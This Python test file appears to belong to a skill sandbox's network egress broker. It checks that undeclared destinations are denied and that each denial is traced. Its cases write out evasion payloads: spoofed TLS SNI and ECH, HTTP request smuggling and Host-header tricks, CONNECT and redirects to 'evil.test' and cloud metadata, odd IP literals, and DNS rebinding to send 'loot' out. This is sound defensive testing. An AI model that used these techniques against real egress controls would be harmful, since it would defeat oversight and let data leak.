"""Undeclared data does not leave: nothing arrives, the skill gets an error at once, and
the trace gives the reason. Each probe also runs outside, where it works."""
import re

import pytest
import yaml

from harness import BY_USER
from net_fixtures import GRANT, PROMPT, net, outside, rule
from net_servers import PRIVATE

API = rule("api.example.test", 443)
WEB = rule("api.example.test", 80)
ECHO = rule("api.example.test", 7001)


def failed(r, seconds=PROMPT):
    """True if the attempt got no answer, and ended within the time limit with an error or an end of
    the stream."""
    return not r["value"] and r["seconds"] < seconds


def test_denial_is_a_reset(net):
    """Each denied connection ends with a reset, as documented. A normal end of the stream would
    look like a short answer."""
    code = """
    def ask(port, data):
        with socket.create_connection(('api.example.test', port), 5) as s:
            s.sendall(data)
            s.settimeout(5)
            return text(s.recv(100))
    show([tried(ask, 443, b'no tls' * 10), tried(ask, 443, hello_bytes('evil.test')),
          tried(ask, 80, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'), tried(ask, 9, b'x')])
    """
    got = net.probe(code, [rule("api.example.test", 80, 443, 9)])
    assert [r["errno"] for r in got] == ["ECONNRESET"] * 4, got


TLS = {
    "other_sni": "tried(tls, 'api.example.test', sni='other.example.test')",
    "other_sni suffix": "tried(tls, 'api.example.test', sni='api.example.test.evil.test')",
    "other_sni prefix": "tried(tls, 'api.example.test', sni='evilapi.example.test')",
    "other_sni parent": "tried(tls, 'api.example.test', sni='example.test')",
    "no_sni": "tried(tls, 'api.example.test', sni='')",
    "not_tls": r"tried(raw, 'api.example.test', 443, 'GET /loot HTTP/1.1\r\n'"
               r"'Host: api.example.test\r\n\r\n')",
    "not_tls raw": "tried(raw, 'api.example.test', 443, 'loot' * 100, half_close=True)",
}


@pytest.mark.parametrize("case", TLS)
def test_tls_for_another_name(net, case):
    code = f"show({TLS[case]})"
    assert failed(net.probe(code, [API])), case
    assert net.nothing_arrived()
    assert net.blocked("api.example.test", 443, case.split()[0]), \
        net.events("network_egress_blocked")
    assert net.runner.last_trace()["policy_violations"]
    net.control(code)
    got = net.seen()["connections"]
    assert got and got[0]["bytes"], "outside the bytes arrive"


ECH = """
def with_extension(hello, number, data):
    record, message = hello[:5], bytearray(hello[5:])
    at = 4 + 2 + 32
    at += 1 + message[at]                                        # session id
    at += 2 + struct.unpack('>H', message[at:at + 2])[0]         # cipher suites
    at += 1 + message[at]                                        # compression
    extra = struct.pack('>HH', number, len(data)) + data
    size = struct.unpack('>H', message[at:at + 2])[0] + len(extra)
    body = bytes(message[4:at]) + struct.pack('>H', size) + bytes(message[at + 2:]) + extra
    message = message[:1] + len(body).to_bytes(3, 'big') + body
    return record[:3] + struct.pack('>H', len(message)) + message
def first(data):
    with socket.create_connection(('api.example.test', 443), 5) as s:
        s.sendall(data)
        s.settimeout(5)
        return text(s.recv(3))
hello = hello_bytes('api.example.test')
"""


def test_encrypted_client_hello(net):
    """A ClientHello with an ECH (encrypted ClientHello) extension is denied; one with an unknown
    extension passes."""
    code = ECH + "show([tried(first, with_extension(hello, n, b'\\0' * 40)) for n in (0xfe0d," \
                 " 0x5a5a)])"
    ech, grease = net.probe(code, [API])
    assert failed(ech) and grease["value"] == "\x16\x03\x03", grease
    assert len(net.seen()["connections"]) == 1
    assert net.blocked("api.example.test", "ech")
    assert [r["value"] for r in net.control(code)] == ["\x16\x03\x03"] * 2


def test_encrypted_client_hello_by_the_owners_word(net):
    """The policy file allows ECH for one name: it passes, but the visible name must still be the
    declared one."""
    policy = net.runner.write(net.runner.home / ".config/skillsandbox/policy.yaml",
                              "network:\n  allow_ech: [api.example.test]\n", 0o600)
    code = ECH + """
others = [hello_bytes(n) for n in ('other.example.test', None)]
show([tried(first, with_extension(h, 0xfe0d, b'\\0' * 40)) for h in (hello, *others)])"""
    allowed, wrong, without = net.probe(code, [API])
    assert allowed["value"] == "\x16\x03\x03", allowed
    assert failed(wrong) and len(net.blocked("api.example.test", "other_sni")) == 1
    assert failed(without) and net.blocked("api.example.test", "no_sni")
    policy.unlink()
    assert failed(net.probe(code, [API])[0]), "control: without the owner's word it is denied"


HTTP = {
    "other_host": "GET /loot HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "other_host suffix": "GET /loot HTTP/1.1\r\nHost: api.example.test.evil.test\r\n\r\n",
    "other_host prefix": "GET /loot HTTP/1.1\r\nHost: evilapi.example.test\r\n\r\n",
    "other_port": "GET /loot HTTP/1.1\r\nHost: api.example.test:8080\r\n\r\n",
    "no_host": "GET /loot HTTP/1.1\r\nAccept: */*\r\n\r\n",
    "no_host old": "GET /loot HTTP/1.0\r\n\r\n",
    "two_hosts": "GET /loot HTTP/1.1\r\nHost: api.example.test\r\nHost: evil.test\r\n\r\n",
    "two_hosts absolute": "GET http://evil.test/loot HTTP/1.1\r\nHost: api.example.test\r\n\r\n",
    "connect": "CONNECT evil.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n",
    "folded": "GET /loot HTTP/1.1\r\nHost: api.example.test\r\nX: a\r\n b\r\n\r\n",
    "bad_header space": "GET /loot HTTP/1.1\r\nHost : evil.test\r\nHost: api.example.test\r\n\r\n",
    "bad_header lf": "GET /loot HTTP/1.1\r\nX: a\nHost: evil.test\r\nHost: api.example.test\r\n\r\n",
    "smuggling both": "POST /loot HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 40\r\n"
                      "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /loot HTTP/1.1\r\n\r\n",
    "smuggling lengths": "POST /loot HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 4\r\n"
                         "Content-Length: 40\r\n\r\nabcd",
    "smuggling coding": "POST /loot HTTP/1.1\r\nHost: api.example.test\r\n"
                        "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "smuggling sign": "POST /loot HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: +4\r\n\r\n",
    "h2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "h2 upgrade": "GET /loot HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: h2c\r\n"
                  "Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
    "not_http": "\x16\x03\x01\x00\x05hello, this is no request\r\n\r\n",
    "too_long": "GET /loot HTTP/1.1\r\nHost: api.example.test\r\nX: " + "a" * 70000 + "\r\n\r\n",
}


def test_http_that_is_ambiguous_or_for_another_host(net):
    code = "show(side_by_side(lambda v: raw('api.example.test', 80, v, half_close=ENDS), " \
           f"{HTTP!r}))"
    got = net.probe("ENDS = False\n" + code, [WEB])
    for case, r in got.items():
        assert failed(r), f"{case}: {r}"
        assert net.blocked("api.example.test", 80, case.split()[0]), f"{case} is in the trace"
    assert net.nothing_arrived()
    net.control("ENDS = True\n" + code)  # without the half-close, the server would wait for more
    assert len(net.seen()["connections"]) == len(HTTP), "outside each of them arrives"


LATER = {
    "other_host": "GET /loot HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "connect": "CONNECT evil.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n",
    "smuggling": HTTP["smuggling both"],
    "h2": HTTP["h2"],
}


@pytest.mark.parametrize("case", LATER)
@pytest.mark.parametrize("pipelined", [True, False])
def test_later_request_on_the_connection(net, case, pipelined):
    first = "GET /first HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
    post = "POST /second HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 3\r\n\r\nabc"
    parts = [first + post + LATER[case]] if pipelined else [first, post, LATER[case]]
    code = f"show(tried(in_turn, 'api.example.test', 80, *{parts!r}, half_close=ENDS))"
    net.probe("ENDS = False\n" + code, [WEB])
    got = net.seen()["connections"]
    assert len(got) == 1 and "loot" not in got[0]["data"] and "evil" not in got[0]["data"], got
    assert net.blocked("api.example.test", 80, case) or net.allowed("api.example.test", 80, case), \
        net.runner.last_trace()["events"]
    if not pipelined:
        assert [r[2] for r in got[0]["requests"]] == ["/first", "/second"]
    net.control("ENDS = True\n" + code)  # without the half-close, the server would wait for more
    data = "".join(c["data"] for c in net.seen()["connections"])
    assert "loot" in data or "evil" in data or "PRI" in data, "outside it arrives"


def test_chunk_tricks(net):
    """A request for another host is hidden after a chunked body: it never arrives, because the
    broker finds the end of the body where every server finds it."""
    head = "POST /first HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    hidden = "GET /loot HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    cases = {"end": head + "3\r\nabc\r\n0\r\n\r\n" + hidden,
             "trailer": head + "0\r\nHost: evil.test\r\n\r\n" + hidden,
             "big": head + "fffffffffffffffff\r\nabc\r\n0\r\n\r\n" + hidden,
             "sign": head + "-1\r\n" + hidden,
             "lf": head + "0\n\n" + hidden}
    code = f"show(side_by_side(lambda v: raw('api.example.test', 80, v), {cases!r}))"
    net.probe(code, [WEB])
    assert all("loot" not in c["data"] for c in net.seen()["connections"])
    assert len(net.blocked("api.example.test", 80)) + len(net.allowed("api.example.test", 80)) \
        == len(cases)


def test_redirect_to_an_undeclared_host(net):
    code = """
    import urllib.request
    def get(to):
        url = 'https://api.example.test/redirect?to=' + to
        with urllib.request.urlopen(url, context=context(), timeout=10) as r:
            return r.read().decode()
    show([tried(get, 'https://evil.test/loot'), tried(get, 'https://api.example.test/fine'),
          tried(get, 'http://10.77.0.1/loot'), tried(get, 'http://169.254.169.254/loot')])
    """
    got = net.probe(code, [API])
    assert failed(got[0]) and failed(got[2]) and failed(got[3]), got
    assert "/fine" in (got[1]["value"] or ""), got[1]
    asked = [r[2] for c in net.seen()["connections"] for r in c["requests"]]
    assert len(asked) == 5 and "/loot" not in asked
    assert net.blocked("evil.test")
    assert all("/" in (r["value"] or "") for r in net.control(code)), "outside they are followed"


PORTS = "show({p: tried(connect, 'api.example.test', p) for p in (80, 7001, 7002, 53, 1, 65535)})"


def test_undeclared_ports(net):
    got = net.probe(PORTS, [API])
    for port, r in got.items():
        assert r["errno"] == "ECONNREFUSED" and r["seconds"] < PROMPT, f"{port}: {r}"
    assert net.nothing_arrived()
    control = net.control(PORTS)
    assert control["80"]["value"] == control["7001"]["value"] == "connected"


@pytest.mark.parametrize("declared", ["api.example.test", "*.example.test"])
def test_undeclared_ports_are_told_with_the_host(net, declared):
    """The skill uses an undeclared port of a declared name: the trace and its remedy have the name,
    not the synthetic address."""
    code = """
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            return s.sendto(b'x', ('api.example.test', 7005))
    show([tried(connect, 'api.example.test', 7001), tried(send)])
    """
    got = net.probe(code, [rule(declared, 443), rule("other.example.test", 7001)])
    assert [r["errno"] for r in got] == ["ECONNREFUSED"] * 2, got
    events = [e["data"] for e in net.blocked("undeclared_port")]
    assert events and {e["name"] for e in events} == {"api.example.test"}, events
    assert {e["remedy"] for e in events if e["protocol"] == "tcp"} == {
        "--net api.example.test:7001"}
    datagram, = [e for e in events if e["op"] == "send"]
    assert datagram["remedy"] == "'{domain: api.example.test, ports: [7005], protocol: udp}' " \
        "under permissions.network.egress"
    assert net.nothing_arrived()
    control = net.control(code)
    assert control[0]["value"] == "connected" and control[1]["value"] == 1


def test_remedies_for_datagrams_are_exact(net):
    """The trace has a remedy for a denied datagram: if the remedy is followed, the datagram
    passes."""
    code = """
    def ask(address):
        with socket.socket(family_of(address), socket.SOCK_DGRAM) as s:
            s.settimeout(10)
            s.sendto(b'x', (address, 7005))
            return text(s.recv(10))
    show([tried(ask, a) for a in ('10.77.0.1', 'fd77::1')])
    """
    got = net.probe(code, [API])
    assert [r["errno"] for r in got] == ["ENETUNREACH"] * 2, got
    remedies = [e["data"]["remedy"] for e in net.blocked("undeclared_address")]
    lines, policies = zip(*[re.findall(r"'(.*?)'", r) for r in remedies])
    policy = net.runner.write(net.runner.base / "policy.yaml", policies[0] + "\n")
    grants = ("--allow-private", "10.0.0.0/8", "--allow-private", "fd00::/8", "--policy", policy)
    granted = net.probe(code, [API, *map(yaml.safe_load, lines)], flags=grants)
    assert [r["value"] for r in granted] == ["X", "X"], granted


def test_remedy_for_a_private_address_is_whole(net):
    """The remedy for a denied private address is complete: after it is followed, the connection
    works."""
    code = "show(tried(raw, '10.77.0.1', 7001, 'x', half_close=True))"
    assert net.probe(code, flags=())["errno"] == "ENETUNREACH"
    told, = net.blocked("undeclared_address")
    flags = [w for w in told["data"]["remedy"].split() if w not in ("both", "and")]
    assert net.probe(code, flags=flags)["value"] == "xEND", flags
    assert net.probe(code, flags=flags[:2])["error"] and net.blocked("guarded")


def test_sorting_of_addresses_is_no_violation(net):
    """getaddrinfo() connects a datagram socket to each address of a name, to sort the addresses:
    this is recorded, but is no violation. Only attempts of the program itself are violations."""
    code = """
    def datagram(host, send):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect((host, 7005))
            return s.send(b'x') if send else s.getpeername()[1]
    def sent():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            return s.sendto(b'x', ('api.example.test', 7005))
    show([tried(connect, 'api.example.test', 7001), tried(datagram, 'api.example.test', False),
          tried(datagram, '10.77.0.1', False), tried(sent)])
    """
    got = net.probe(code, [API])
    assert [r["errno"] for r in got] == ["ECONNREFUSED", "ECONNREFUSED", "ENETUNREACH",
                                         "ECONNREFUSED"], got
    found = [(e["data"]["op"], e["data"]["protocol"], e["data"]["port"],
              "name" in e["data"], e.get("violation", False), "remedy" in e["data"])
             for e in net.runner.last_record() if e.get("kind") == "network_egress_blocked"
             and "repeat_of" not in e["data"]]
    assert ("connect", "udp", 7001, True, False, False) in found, "on record"
    assert ("connect", "udp", 7005, True, False, False) in found, "on record"
    assert {f[:4] for f in found if f[4]} == {
        ("connect", "tcp", 7001, True), ("connect", "udp", 7005, False),
        ("send", "udp", 7005, True)}, found
    assert net.nothing_arrived()
    control = net.control(code)
    assert [r["value"] for r in control] == ["connected", 7005, 7005, 1], control


ADDRESSES = ["10.77.0.1", "169.254.169.254", "192.0.2.1", "fd77::1", "2001:db8::1",
             "::ffff:10.77.0.1", "::ffff:192.0.2.1", "172.17.0.1", "224.0.0.1", "255.255.255.255",
             "64:ff9b::a4d:1"]
DIAL = "show({a: tried(connect, a, 7001, timeout=5) for a in %r})"


def test_undeclared_addresses(net):
    got = net.probe(DIAL % ADDRESSES, [API, ECHO])
    for address, r in got.items():
        assert r["error"] and r["seconds"] < PROMPT, f"{address}: {r}"
        if not address.startswith(("224", "255")):
            assert r["errno"] in ("ENETUNREACH", "EHOSTUNREACH", "ECONNREFUSED"), f"{address}: {r}"
    assert {got[a]["errno"] for a in ADDRESSES[:3]} == {"ENETUNREACH"}
    assert net.nothing_arrived()
    control = net.control(DIAL % ADDRESSES[:2])
    assert {r["value"] for r in control.values()} == {"connected"}


ODD = ["0x7f.1", "127.1", "2130706433", "0177.0.0.1", "0", "0x0a4d0001", "10.77.1"]


def test_odd_literals(net):
    got = net.probe(DIAL % ODD, [API, ECHO])
    for literal, r in got.items():
        assert r["error"] and r["seconds"] < PROMPT, f"{literal}: {r}"
    assert net.nothing_arrived()
    control = net.control(DIAL % ODD)
    assert {r["value"] for r in control.values()} == {"connected"}


def test_synthetic_addresses_without_a_name(net):
    """The skill connects to addresses of the synthetic range that belong to no declared name: each
    fails at once, and nothing arrives outside."""
    code = """
    mine = names('api.example.test', socket.AF_INET)[0]
    top = mine.rsplit('.', 1)[0]
    seen = {a: tried(connect, a, 443) for a in
            [f'{top}.{i}' for i in range(0, 256, 5) if f'{top}.{i}' != mine] + ['198.19.255.254']}
    show(seen)
    """
    got = net.probe(code, [API])
    assert len(got) > 40
    for address, r in got.items():
        assert r["error"] and r["seconds"] < PROMPT, f"{address}: {r}"
    assert net.nothing_arrived()


GUARDED = [
    ("api.example.test", "loopback", "127.0.0.0/8"),
    ("private.example.test", "private", "10.0.0.0/8"),
    ("metadata.example.test", "metadata", "169.254.169.254"),
    ("ula.example.test", "unique_local", "fd00::/8"),
    ("v6.example.test", "loopback", "::1"),
    ("zero.example.test", "unspecified", "0.0.0.0"),
]


@pytest.mark.parametrize("name,kind,grant", GUARDED)
def test_guarded_ranges(net, name, kind, grant):
    """A declared name leads to an address that is not public: this is denied until the owner
    grants the address's range."""
    code = f"show(tried(raw, {name!r}, 7001, 'loot', half_close=True))"
    other = "172.16.0.0/12" if kind != "private" else "127.0.0.0/8"
    for flags in ((), ("--allow-private", other)):
        assert failed(net.probe(code, [rule(name, 7001)], flags=flags))
        assert net.seen()["connections"] == [] and net.seen()["kernel"]["connects"] == 0
        assert net.blocked(name, 7001, "guarded", kind), net.runner.last_trace()["events"]
    got = net.probe(code, [rule(name, 7001)], flags=("--allow-private", grant))
    assert got["value"] == "lootEND", got
    assert net.seen()["connections"]


def test_mapped_address_is_guarded(net):
    code = "show(tried(raw, 'mapped.example.test', 7001, 'loot', half_close=True))"
    for flags in ((), GRANT, ("--allow-private", "::/0")):
        r = net.inside(code, [rule("mapped.example.test", 7001)], flags=flags)
        assert "lootEND" not in r.text
        assert net.seen()["connections"] == []


def test_names_with_several_addresses(net):
    """A name has several addresses: only the granted address is dialled."""
    code = "show(tried(raw, 'mixed.example.test', 7001, 'x', half_close=True))"
    got = net.probe(code, [rule("mixed.example.test", 7001)])
    assert got["value"] == "xEND", got
    seen = net.seen()
    assert [c["address"] for c in seen["connections"]] == ["127.0.0.1"]
    assert seen["kernel"]["connects"] == 1, "the others were not even tried"


@BY_USER
def test_rebinding(net):
    """The resolver's second answer for a name is a private address: the address is checked again,
    and the connection is denied."""
    code = """
    seen, end = [], time.monotonic() + 30
    while time.monotonic() < end and (not seen or seen[-1]['value']):
        seen.append(tried(raw, 'rebind.example.test', 7001, 'x', half_close=True))
        time.sleep(0.5)
    show(seen)
    """
    got = net.probe(code, [rule("rebind.example.test", 7001)])
    assert got[0]["value"] == "xEND", got[0]
    assert failed(got[-1]), "resolved again within 30 s"
    seen = net.seen()
    assert {c["address"] for c in seen["connections"]} == {"127.0.0.1"}
    assert len([q for q in seen["queries"] if q == ["rebind.example.test", "A"]]) >= 2
    assert net.blocked("rebind.example.test", 7001, "guarded", "private", PRIVATE)
    both = net.probe(code.replace("+ 30", "+ 12"), [rule("rebind.example.test", 7001)],
                     flags=(*GRANT, "--allow-private", "10.0.0.0/8"), timeout=90)
    assert both[-1]["value"] == "xEND"
    assert PRIVATE in {c["address"] for c in net.seen()["connections"]}, "the control"


@pytest.mark.parametrize("name,reason", [("gone.example.test", "no_name"),
                                         ("nowhere.example.test", "no_name"),
                                         ("api.example.test", "unreachable")])
def test_dial_that_fails(net, name, reason):
    """The name does not exist outside, or no server listens: the attempt fails at once, and the
    trace has the reason."""
    got = net.probe(f"show(tried(raw, {name!r}, 9, 'x', half_close=True))", [rule(name, 9)])
    assert failed(got), got
    assert net.blocked(name, 9, reason), net.runner.last_trace()["events"]


UDP = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def ask(host, port):
    s.settimeout(WAIT if port == 7005 else 0.7)  # no server on the others
    s.sendto(b'loot', (socket.getaddrinfo(host, port, socket.AF_INET)[0][4][0], port))
    return text(s.recv(100))
"""


def test_udp_needs_its_own_rule(net):
    """A rule for TCP allows no datagrams, not even to the declared port (QUIC)."""
    code = UDP + "show([tried(ask, h, p) for h in ('api.example.test', '10.77.0.1')" \
                 " for p in (7005, 443)])"
    got = net.probe("WAIT = 0.7\n" + code, [rule("api.example.test", 443, 7005)])
    assert all(r["error"] for r in got), got
    assert {r["errno"] for r in got[2:]} == {"ENETUNREACH"}
    assert net.nothing_arrived()
    assert [r["value"] for r in net.control("WAIT = 20\n" + code)][::2] == ["LOOT"] * 2


def test_udp_by_name(net):
    code = "WAIT = 20\n" + UDP + \
        "show([tried(ask, 'api.example.test', 7005) for _ in range(3)])"
    got = net.probe(code, [rule("api.example.test", 7005, protocol="udp")])
    assert [r["value"] for r in got] == ["LOOT"] * 3, got
    assert len(net.seen()["datagrams"]) == 3
    assert net.allowed("api.example.test", 7005, "udp")


SOCKETS = """
show([tried(socket.socket, *a) for a in (
    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    (socket.AF_INET, socket.SOCK_STREAM, 132),
    (socket.AF_INET, socket.SOCK_STREAM, 262))])
""".replace("tried(socket.socket, *a)", "tried(lambda *x: socket.socket(*x).close() or 'made', *a)")


def test_other_sockets(net):
    got = net.probe(SOCKETS, [API])
    assert {r["errno"] for r in got} <= {"EPROTONOSUPPORT", "EACCES"}, got
    control = net.control(SOCKETS)
    if net.runner.is_root:
        assert control[0]["value"] == "made"


LITERAL = [rule("10.77.0.1", 7001)]


def test_literal_addresses(net):
    code = "show([tried(raw, a, 7001, 'x', half_close=True) for a in ('10.77.0.1', '10.77.0.2')])"
    grant = ("--allow-private", "10.77.0.0/16")
    policy = net.runner.write(net.runner.base / "policy.yaml",
                              "network: {allow_literal_addresses: true}\n")
    r = net.inside(code, LITERAL, flags=grant)
    assert r.code == 125 or r.code == 2, repr(r)
    assert net.nothing_arrived()
    got = net.probe(code, LITERAL, flags=(*grant, "--policy", policy))
    assert got[0]["value"] == "xEND" and got[1]["errno"] == "ENETUNREACH", got
    assert [c["address"] for c in net.seen()["connections"]] == [PRIVATE]
    denied = net.probe(code, LITERAL, flags=("--policy", policy))
    assert failed(denied[0]) and net.seen()["connections"] == []
